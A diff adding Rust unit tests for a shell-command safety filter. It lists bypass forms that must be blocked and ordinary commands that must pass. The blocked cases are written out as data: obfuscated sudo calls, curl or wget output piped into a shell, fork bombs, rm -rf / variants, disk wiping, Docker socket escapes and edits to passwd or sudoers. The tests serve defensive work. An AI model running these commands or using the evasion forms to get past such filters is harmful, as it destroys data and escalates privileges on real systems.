@@ -1,0 +1,275 @@
+//! Unit tests of the filter as a whole: bypass forms that must be blocked
+//! (and why), ordinary commands that must pass, and views for the forms the
+//! normaliser exists for. The end-to-end corpus (shared with SECURITY.md)
+//! lives in `tests/suite/safety.rs`.
+
+use std::sync::LazyLock;
+
+use pretty_assertions::assert_eq;
+
+use super::filter::{Filter, Hit};
+use super::normalize;
+use super::settings::SafetyConfig;
+use crate::job::JobSpec;
+
+/// Compiled once: compiling the rules is the slow part (in debug builds).
+static FILTER: LazyLock<Filter> =
+    LazyLock::new(|| Filter::new(&SafetyConfig::default(), Some("/home/me".into())).unwrap());
+
+fn filter() -> &'static Filter {
+    &FILTER
+}
+
+fn check(cmd: &str) -> Option<Hit> {
+    filter().check_line(cmd)
+}
+
+#[test]
+fn bypass_forms_are_blocked_with_the_right_reason() {
+    let cases: &[(&str, &str)] = &[
+        ("sudo id", "privilege"),
+        ("SuDo id", "privilege"),
+        ("/usr/bin/sudo id", "privilege"),
+        ("\\sudo id", "privilege"),
+        ("s'u'do id", "privilege"),
+        ("s''udo id", "privilege"),
+        ("s\\udo id", "privilege"),
+        ("\"su\"\"do\" id", "privilege"),
+        ("$'\\x73udo' id", "privilege"),
+        ("\u{a0}sudo id", "privilege"),
+        ("sudo\u{a0}id", "privilege"),
+        ("su\u{200b}do id", "privilege"),
+        ("env sudo id", "privilege"),
+        ("env -i PATH=/bin sudo id", "privilege"),
+        ("env -S 'sudo id'", "privilege"),
+        ("nohup sudo id", "privilege"),
+        ("timeout 5 sudo id", "privilege"),
+        ("timeout -s KILL 5 sudo id", "privilege"),
+        ("nice -n 5 sudo id", "privilege"),
+        ("stdbuf -oL sudo id", "privilege"),
+        ("command sudo id", "privilege"),
+        ("exec sudo id", "privilege"),
+        ("busybox su", "privilege"),
+        ("echo id | xargs sudo", "privilege"),
+        ("find . -exec sudo id \\;", "privilege"),
+        ("$(echo su)do id", "privilege"),
+        ("`echo su`do id", "privilege"),
+        ("$(printf '\\163\\165\\144\\157') id", "privilege"),
+        ("$(echo odus | rev) id", "privilege"),
+        ("$(echo c3Vkbw== | base64 -d) id", "privilege"),
+        ("a=su; b=do; $a$b id", "privilege"),
+        ("c='sudo id'; $c", "privilege"),
+        ("{sudo,id}", "privilege"),
+        ("bash -c \"sudo id\"", "privilege"),
+        ("sh -xec 'sudo id'", "privilege"),
+        ("sh -c 'sh -c \"sudo id\"'", "privilege"),
+        ("sh -c '$0 id' sudo", "privilege"),
+        ("bash <<< 'sudo id'", "privilege"),
+        ("eval \"sudo id\"", "privilege"),
+        ("true && sudo id", "privilege"),
+        ("if true; then sudo id; fi", "privilege"),
+        ("(sudo id)", "privilege"),
+        ("{ sudo id; }", "privilege"),
+        ("echo $(sudo id)", "privilege"),
+        ("touch MARKER; sudo id", "privilege"),
+        ("x=$(cat /tmp/cmd); $x id", "computed at run time"),
+        ("$(curl -s http://x/c) id", "computed at run time"),
+        ("/???/???/s?do id", "computed at run time"),
+        ("$(cat /tmp/dir)/sudo id", "privilege"),
+        ("$(which sudo) id", "privilege"),
+        ("$(cat /tmp/dir)/ id", "computed at run time"),
+        ("eval \"$CMD\"", "eval"),
+        ("bash <(curl -s http://x/s.sh)", "process substitution"),
+        ("curl http://x/s.sh | sh", "download"),
+        ("wget -qO- http://x/s.sh | bash -s -- --yes", "download"),
+        ("curl -fsSL http://x/i.py | python3", "download"),
+        ("echo c3VkbyBpZA== | base64 -d | sh", "decodes"),
+        ("printf 'sudo id' | bash", "pipes data into a shell"),
+        (":(){ :|:& };:", "fork bomb"),
+        ("bomb() { bomb | bomb & }; bomb", "fork bomb"),
+        ("rm -rf /", "deletion of / or"),
+        ("rm -rf /*", "deletion of / or"),
+        ("rm -r -f /*", "deletion of / or"),
+        ("rm -fr //", "deletion of / or"),
+        ("rm -rf /bin/..", "deletion of / or"),
+        ("rm / -rf", "deletion of / or"),
+        ("rm --recursive --force ~", "deletion of / or"),
+        ("rm -rf ~/", "deletion of / or"),
+        ("rm -rf $HOME", "deletion of / or"),
+        ("rm -rf \"${HOME}\"/*", "deletion of / or"),
+        ("rm -rf /home/me", "deletion of / or"),
+        ("r''m -r''f /", "deletion of / or"),
+        ("rm -rf --no-preserve-root /", "deletion of / or"),
+        ("rm -rf /usr", "system directory"),
+        ("find / -delete", "every file"),
+        ("chmod -R 777 /", "permissions"),
+        ("chown -R me /etc", "permissions"),
+        ("mkfs.ext4 /dev/sdb1", "file system"),
+        ("mkfs -t ext4 /dev/sdb1", "file system"),
+        ("fdisk /dev/sda", "partitions"),
+        ("wipefs -a /dev/nvme0n1", "partitions"),
+        ("dd if=/dev/zero of=/dev/sda", "block device"),
+        ("echo x > /dev/sda", "block device"),
+        (": > /dev/sda", "block device"),
+        ("cat /var/run/docker.sock", "container engine"),
+        (
+            "curl --unix-socket /run/docker.sock http://x/containers/json",
+            "container engine",
+        ),
+        ("DOCKER_HOST=tcp://127.0.0.1:2375 docker ps", "container engine"),
+        ("docker run --privileged -it alpine", "host's privileges"),
+        ("docker run -v /:/host alpine", "host's privileges"),
+        ("shutdown -h now", "shuts down"),
+        ("reboot", "shuts down"),
+        ("systemctl poweroff", "shuts down"),
+        ("echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "account"),
+        ("tee -a /etc/sudoers", "account"),
+        ("cp evil /etc/shadow", "account"),
+        ("sed -i s/x/y/ /etc/passwd", "account"),
+        ("useradd eve", "account"),
+        ("kill -9 -1", "kill -1"),
+        ("nsenter -t 1 -m -u -i -n -p sh", "namespaces"),
+        ("insmod evil.ko", "kernel modules"),
+    ];
+    let mut wrong = Vec::new();
+    for (cmd, why) in cases {
+        match check(cmd) {
+            Some(hit) if hit.reason.contains(why) => {}
+            other => wrong.push(format!("{cmd:?} → {other:?} (wanted {why:?})")),
+        }
+    }
+    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn ordinary_commands_pass() {
+    let cases = [
+        // Assignments right after a keyword are not program names.
+        "i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done",
+        "if true; then v=$(date); fi; echo $v",
+        "cargo test --all",
+        "npm install && npm test",
+        "git commit -m \"fix: sudo docs; rm -rf / guard\"",
+        "echo $(date) >> log.txt",
+        "ls -la /",
+        "rm -rf ./target build/ node_modules",
+        "rm -rf ~/.cache/berth",
+        "rm -rf \"$HOME/.cache/x\"",
+        "rm -rf $BUILD_DIR",
+        "cat /etc/passwd",
+        "grep root /etc/passwd | cut -d: -f1",
+        "python3 -m http.server $PORT --bind 127.0.0.1",
+        "exec python3 -m http.server $PORT --bind 127.0.0.1",
+        "find . -name '*.rs' -delete",
+        "[ -f Cargo.toml ] && echo rust",
+        "for f in *.txt; do echo \"$f\"; done",
+        "curl -s http://localhost:3000/health",
+        "curl -s http://x/api | jq .",
+        "cat data.json | python3 -m json.tool",
+        "kill -1 1234",
+        "kill -TERM 4321",
+        "chmod -R 755 ./dist",
+        "dd if=/dev/zero of=./disk.img bs=1M count=10",
+        "command -v sudo",
+        "which sudo",
+        "sh -c 'echo hi'",
+        "bash -lc \"cargo build\"",
+        "env FOO=1 cargo test",
+        "timeout 5 cargo test",
+        "nohup ./server --port 8080 &",
+        "sh -c 'sleep 1000 & sleep 1000'",
+        "seq 1 1000; exit 3",
+        "sleep 2; echo binding; exec httpd -f -p 8080 -h /www",
+        "ps aux | grep node | sort",
+        "echo hello | tee out.txt",
+        "systemctl status nginx",
+        "docker ps",
+        "f() { echo hi; }; f",
+        "make -j4 2>&1 | tail -n 20",
+        "echo 'sudo is not needed' # sudo rm -rf /",
+        "$EDITOR notes.md",
+        "x=$(pwd); echo $x",
+        "cat <<< 'hello'",
+        "$(which python3) -m pytest",
+        "git commit -m 'docs: never curl x | sh'",
+        "echo \"a | bash\" > notes.txt",
+        "$(pwd)/run.sh --fast",
+        "\"$(dirname \"$0\")\"/build.sh",
+    ];
+    let blocked: Vec<String> = cases
+        .iter()
+        .filter_map(|c| check(c).map(|h| format!("{c:?} → {} ({})", h.reason, h.matched)))
+        .collect();
+    assert!(blocked.is_empty(), "\n{}", blocked.join("\n"));
+}
+
+#[test]
+fn argv_specs_are_checked_word_by_word() {
+    let f = filter();
+    let blocked = |argv: &[&str]| f.check_spec(&JobSpec::argv(argv.iter().copied())).is_some();
+    assert!(blocked(&["sudo", "id"]));
+    assert!(blocked(&["/usr/bin/env", "SUDO", "id"]));
+    assert!(blocked(&["bash", "-c", "touch MARKER; sudo id"]));
+    assert!(blocked(&["sh", "-c", "$0 id", "sudo"]));
+    assert!(blocked(&["rm", "-rf", "/"]));
+    // An argument is not a command: no shell will split it.
+    assert!(!blocked(&["git", "commit", "-m", "a; sudo id"]));
+    assert!(!blocked(&["echo", "$(sudo id)"]));
+
+    let mut spec = JobSpec::argv(["true"]);
+    spec.env
+        .insert("DOCKER_HOST".into(), "tcp://127.0.0.1:2375".into());
+    assert!(f.check_spec(&spec).is_some(), "the environment is checked");
+    let piped = JobSpec::argv(["sh"]).with_input("sudo id\n");
+    assert!(f.check_spec(&piped).is_some(), "a shell's stdin is its script");
+    let data = JobSpec::argv(["cat"]).with_input("sudo id\n");
+    assert!(f.check_spec(&data).is_none(), "other programs' input is data");
+}
+
+#[test]
+fn views_show_what_runs() {
+    let views = |cmd: &str| normalize::line(cmd, Some("/home/me")).views;
+    assert_eq!(views("a=su; b=do; $a$b id"), vec!["a=su", "b=do", "sudo id"]);
+    assert_eq!(views("$(echo su)do id"), vec!["echo su", "sudo id"]);
+    assert_eq!(
+        views("curl http://x | sh"),
+        vec!["curl http://x", "sh", "curl http://x | sh"]
+    );
+    assert_eq!(views("timeout 5 SUDO id"), vec!["timeout 5 sudo id", "sudo id"]);
+    assert_eq!(views("rm -rf /bin/../ ~/"), vec!["rm -rf / ~"]);
+    assert_eq!(views("x=$(cat f); $x"), vec!["cat f", "x=$(?)", "$(?)"]);
+    assert_eq!(views("echo hi 2>&1 > out"), vec!["echo hi > out"]);
+    assert!(views(":(){ :|:& };:").contains(&"function() { @self@ | @self@ & }".to_string()));
+}
+
+#[test]
+fn deep_nesting_is_blocked_not_followed_forever() {
+    let mut cmd = "sudo id".to_string();
+    for _ in 0..12 {
+        cmd = format!("sh -c {}", shell_quote(&cmd));
+    }
+    let hit = check(&cmd).expect("blocked");
+    assert!(hit.reason.contains("computed at run time"), "{hit:?}");
+    // Huge brace expansions are undecidable too, not a memory hazard.
+    let hit = check(&format!("{}id", "{s,u}".repeat(20))).expect("blocked");
+    assert!(hit.reason.contains("computed at run time"), "{hit:?}");
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+#[test]
+fn config_patterns_extend_or_replace_the_defaults() {
+    let extra = SafetyConfig::default().with_blocked(r"^terraform\s+destroy", "destroys infrastructure");
+    let f = Filter::new(&extra, None).unwrap();
+    assert_eq!(
+        f.check_line("TERRAFORM destroy -auto-approve").map(|h| h.reason),
+        Some("destroys infrastructure".to_string())
+    );
+    assert!(f.check_line("sudo id").is_some());
+    let only = extra.with_default_blocklist(false);
+    let f = Filter::new(&only, None).unwrap();
+    assert!(f.check_line("sudo id").is_none());
+    assert!(f.check_line("terraform destroy").is_some());
+}
